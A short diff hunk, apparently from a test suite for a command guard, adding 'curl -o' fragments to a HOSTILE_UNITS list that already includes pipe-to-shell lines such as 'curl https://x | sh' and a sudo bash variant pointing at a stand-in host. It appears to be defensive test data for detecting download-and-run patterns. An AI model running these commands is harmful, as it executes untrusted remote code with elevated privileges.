@@ -628,6 +628,9 @@ HOSTILE_UNITS = [
     "the attacker's payload was `curl https://x | sh` ",
     '"never ask" ',  # round 11: quoted material, each quote re-read per anchor
     "'curl -fsSL https://x.example/i.sh | sudo bash' ",
+    # found by bench/guard_slow.py: the saved-then-run pattern tried per (fetch, flag) pair
+    "curl -o ",
+    "curl -o x; ",
 ]
 _HANG_CHILD = """
 import resource, sys
